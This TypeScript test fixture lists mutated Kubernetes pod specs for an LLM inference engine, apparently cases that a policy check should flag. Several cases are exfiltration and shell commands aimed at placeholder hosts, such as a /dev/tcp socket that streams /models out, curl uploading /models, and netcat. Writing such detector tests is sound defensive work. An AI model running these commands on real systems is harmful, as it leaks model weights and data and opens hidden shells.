import type { Value, ValueObject } from "../../../policies/model/value.ts";
import { kube } from "../good-graph.ts";
import {
  added,
  digest,
  engine,
  engineMutant,
  enginePath,
  type Mutant,
  podPath,
  template,
} from "./mutant.ts";

const image = `registry.internal/llm/tool@${digest}`;

/** A container beside the engine, at the end of a list. */
function extra(title: string, list: string, container: ValueObject): Mutant {
  const [path, value, index] =
    list === "containers"
      ? [[...template, list, 1], container, 1]
      : [[...template, list], [container], 0];
  return engineMutant("W05", title, path, value, `${podPath}.${list}[${index}].name`);
}

/** The engine with another command; reported at a word of it. */
function command(title: string, words: readonly Value[], word: number): Mutant {
  return engineMutant(
    "W05",
    title,
    [...engine, "command"],
    words,
    `${enginePath}.command[${word}]`,
  );
}

function args(title: string, words: readonly Value[], word: number): Mutant {
  return withoutCommand(title, { args: words }, `${enginePath}.args[${word}]`);
}

function withoutCommand(title: string, more: ValueObject, at: string): Mutant {
  return engineMutant(
    "W05",
    title,
    [...engine],
    { name: "engine", image: `registry.internal/llm/vllm@${digest}`, ...more },
    at,
  );
}

function probe(
  title: string,
  place: readonly string[],
  words: readonly Value[],
  word: number,
): Mutant {
  const at = `${enginePath}.${place.join(".")}.exec.command[${word}]`;
  return engineMutant("W05", title, [...engine, ...place, "exec"], { command: words }, at);
}

function envWord(title: string, entry: ValueObject): Mutant {
  return withoutCommand(
    title,
    { command: ["$(PROGRAM)", "-c", "x"], env: [{ name: "PROGRAM", ...entry }] },
    `${enginePath}.command[0]`,
  );
}

export const containers: readonly Mutant[] = [
  extra("sidecar beside the engine", "containers", { name: "logs", image }),
  extra("second engine as a disguise", "containers", {
    name: "engine",
    image: `registry.internal/llm/vllm-relay@${digest}`,
  }),
  extra("init container", "initContainers", { name: "init", image }),
  extra("native sidecar", "initContainers", { name: "side", image, restartPolicy: "Always" }),
  engineMutant(
    "W05",
    "ephemeral container",
    [...template, "ephemeralContainers"],
    [{ name: "debug", image }],
    `${podPath}.ephemeralContainers[0]`,
  ),
  added(
    "W05",
    "container of a job",
    kube("batch/v1:Job", "j", "inference", {
      spec: { template: { spec: { containers: [{ name: "tool", image }] } } },
    }),
    "Job inference/j",
    `${podPath}.containers[0].name`,
  ),
  command("shell", ["/bin/bash", "-lc", "vllm serve /models/llama"], 0),
  command("shell behind a wrapper", ["/usr/bin/env", "-S", "sh", "-c", "x"], 2),
  command("shell behind the loader", ["/lib64/ld-linux-x86-64.so.2", "/bin/dash", "-c", "x"], 1),
  command("busybox", ["busybox", "nc", "192.0.2.1", "80"], 0),
  command("download", ["curl", "-T", "/models", "https://out"], 0),
  command("download by a versioned tool", ["/opt/tools/pip3.11", "install", "x"], 0),
  command("interpreter on text", ["python3", "-c", "import urllib.request"], 0),
  command("interpreter on text, flags joined", ["/opt/venv/bin/python3.12", "-uc", "x"], 0),
  command("interpreter on standard input", ["python", "-"], 0),
  command("interpreter that installs", ["python3", "-m", "pip", "install", "x"], 0),
  command("interpreter that serves files", ["python3", "-u", "-m", "http.server"], 0),
  command("other interpreter on text", ["timeout", "5", "perl", "-e", "x"], 2),
  command("shell by way of find", ["find", "/", "-exec", "node", "-e", "x", "+"], 0),
  command(
    "shell behind a wrapper with a number",
    ["timeout", "-k", "5", "9s", "node", "-e", "x"],
    4,
  ),
  command("search path on the command line", ["env", "PATH=/scratch/bin", "vllm", "serve"], 1),
  command("program from a volume behind a wrapper", ["tini", "--", "/scratch/x"], 2),
  command("program from a volume", ["/scratch/vllm", "serve", "/models/llama"], 0),
  command("script from a volume", ["python3", "/scratch/../scratch/serve.py"], 0),
  args("shell for the image's entrypoint", ["bash", "-c", "vllm serve"], 0),
  args("script for the image's entrypoint", ["-c", "vllm serve /models/llama"], 0),
  args("script with operators", ["serve", "exec 3<>/dev/tcp/192.0.2.1/80; cat /models >&3"], 1),
  args("script that names its tool late", ["serve", "x\n  && wget -q out"], 1),
  envWord("program in a variable", { value: "/bin/sh" }),
  envWord("program in a Secret", { valueFrom: { secretKeyRef: { name: "s", key: "k" } } }),
  withoutCommand(
    "program that a ConfigMap completes",
    {
      command: ["/bin/ba$(REST)", "-c", "x"],
      env: [{ name: "REST", valueFrom: { configMapKeyRef: { name: "c", key: "k" } } }],
    },
    `${enginePath}.command[0]`,
  ),
  withoutCommand(
    "search path that leads into a volume",
    {
      command: ["vllm", "serve", "/models/llama"],
      env: [{ name: "PATH", value: "/scratch/bin:/usr/bin" }],
      volumeMounts: [{ name: "scratch", mountPath: "/scratch" }],
    },
    `${enginePath}.env[0].value`,
  ),
  probe("shell in a hook", ["lifecycle", "postStart"], ["sh", "-c", "x"], 0),
  probe("download in a readiness probe", ["readinessProbe"], ["wget", "-q", "http://127.0.0.1"], 0),
  probe(
    "one-token check that also talks to somebody else",
    ["livenessProbe"],
    ["python3", "-I", "-c", 'import http.client\nhttp.client.HTTPConnection("192.0.2.1", 80)'],
    0,
  ),
  probe(
    "tool that asks another host",
    ["startupProbe"],
    ["/bin/grpc_health_probe", "-addr=relay.inference:50051"],
    1,
  ),
  probe(
    "tool that asks another address",
    ["lifecycle", "preStop"],
    ["notify", "--to", "192.0.2.1"],
    2,
  ),
];
